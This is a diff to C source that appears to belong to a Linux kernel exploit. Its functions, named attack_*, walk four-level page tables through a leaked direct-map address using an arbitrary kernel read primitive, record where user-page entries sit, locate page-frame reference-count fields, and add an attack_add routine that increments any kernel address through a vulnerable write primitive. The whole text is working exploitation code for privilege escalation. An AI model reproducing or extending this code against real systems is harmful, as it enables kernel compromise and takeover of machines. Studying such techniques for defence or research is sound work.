@@ -6,16 +6,17 @@ enum { LEVELS = 4, ENTRIES = 512, FRAME_BYTES = 16, FRAME_LINKS = 8 };
 #define PRESENT_USER 5ul
 #define LARGE 0x80ul
 
-uint64_t attack_entry(const struct bw_leak *leak, uint64_t root, uint64_t address, uint64_t *place)
+uint64_t attack_entry_at(const struct bw_leak *leak, uint64_t root, uint64_t address, int level,
+			 uint64_t *place)
 {
 	uint64_t table = root, entry = 0;
 
-	for (int level = LEVELS; level > 0; level--) {
-		uint64_t index = address >> (12 + 9 * (level - 1)) & (ENTRIES - 1);
+	for (int at = LEVELS; at >= level; at--) {
+		uint64_t index = address >> (12 + 9 * (at - 1)) & (ENTRIES - 1);
 
-		*place = leak->direct_map_base + table * BW_PAGE_SIZE + index * sizeof(entry);
+		*place = attack_frame_alias(leak, table) + index * sizeof(entry);
 		entry = (uint64_t)bw_vuln_read(*place);
-		if (!(entry & 1) || (level > 1 && entry & LARGE)) {
+		if (!(entry & 1) || (at > 1 && entry & LARGE)) {
 			return 0;
 		}
 		table = attack_entry_frame(entry);
@@ -23,10 +24,16 @@ uint64_t attack_entry(const struct bw_leak *leak, uint64_t root, uint64_t addres
 	return entry;
 }
 
-/* The first entry below the table that leads to a page of user space; 0: none does. */
-static uint64_t first_page_below(const struct bw_leak *leak, uint64_t table, int level)
+uint64_t attack_entry(const struct bw_leak *leak, uint64_t root, uint64_t address, uint64_t *place)
 {
-	uint64_t first = leak->direct_map_base + table * BW_PAGE_SIZE, found = 0;
+	return attack_entry_at(leak, root, address, 1, place);
+}
+
+/* The first entry below the table that leads to a page of user space; 0: none does. */
+static uint64_t first_page_below(const struct bw_leak *leak, uint64_t table, int level,
+				 uint64_t *place)
+{
+	uint64_t first = attack_frame_alias(leak, table), found = 0;
 	uint64_t nr = level == LEVELS ? ENTRIES / 2 : ENTRIES;
 
 	for (uint64_t i = 0; i < nr && found == 0; i++) {
@@ -35,15 +42,17 @@ static uint64_t first_page_below(const struct bw_leak *leak, uint64_t table, int
 		if ((entry & PRESENT_USER) != PRESENT_USER || (level > 1 && entry & LARGE)) {
 			continue;
 		}
+		*place = first + i * sizeof(entry);
 		found = level == 1 ? entry
-				   : first_page_below(leak, attack_entry_frame(entry), level - 1);
+				   : first_page_below(leak, attack_entry_frame(entry), level - 1,
+						      place);
 	}
 	return found;
 }
 
-uint64_t attack_first_page(const struct bw_leak *leak, uint64_t root)
+uint64_t attack_first_page(const struct bw_leak *leak, uint64_t root, uint64_t *place)
 {
-	return first_page_below(leak, root, LEVELS);
+	return first_page_below(leak, root, LEVELS, place);
 }
 
 uint64_t attack_frame_links(const struct bw_leak *leak, uint64_t address)
@@ -52,4 +61,10 @@ uint64_t attack_frame_links(const struct bw_leak *leak, uint64_t address)
 	uint64_t entry = attack_entry(leak, leak->kernel_root, address, &place);
 
 	return leak->frames + attack_entry_frame(entry) * FRAME_BYTES + FRAME_LINKS;
+}
+
+void attack_add(uint64_t address, uint64_t increment)
+{
+	attack_check("vuln_write",
+		     bw_vuln_write(address, (uint64_t)bw_vuln_read(address) + increment));
 }
